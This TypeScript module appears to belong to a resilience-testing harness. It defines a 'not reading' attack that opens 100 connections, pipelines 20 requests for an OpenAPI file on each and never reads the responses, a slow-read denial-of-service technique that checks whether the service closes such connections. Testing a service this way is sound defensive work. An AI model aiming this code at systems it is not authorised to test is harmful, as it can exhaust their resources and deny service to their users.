// Somebody requests large responses on many connections and reads none of them.
import { connect } from "node:net"
import type { Attack } from "../attack.ts"

const CONNECTIONS = 100
/** Node handles the next request of a connection only while earlier responses do not pile up. */
const REQUESTS = 20

export const notReading: Attack = {
  name: "not reading",
  begin: async ({ url }) => {
    const { host, hostname, port } = new URL(url)
    const requests = `GET /v1/openapi.json HTTP/1.1\r\nHost: ${host}\r\n\r\n`.repeat(REQUESTS)
    let closed = 0
    const sockets = Array.from({ length: CONNECTIONS }, () => {
      const socket = connect({ host: hostname, port: Number(port), localAddress: "127.0.0.4" }, () => socket.write(requests))
      return socket
        .pause()
        .on("error", () => {})
        .on("close", () => closed++)
    })
    return {
      end: async () => {
        for (const socket of sockets) socket.destroy()
      },
      reached: () => `${CONNECTIONS} connections, ${closed} closed by the service`,
    }
  },
}
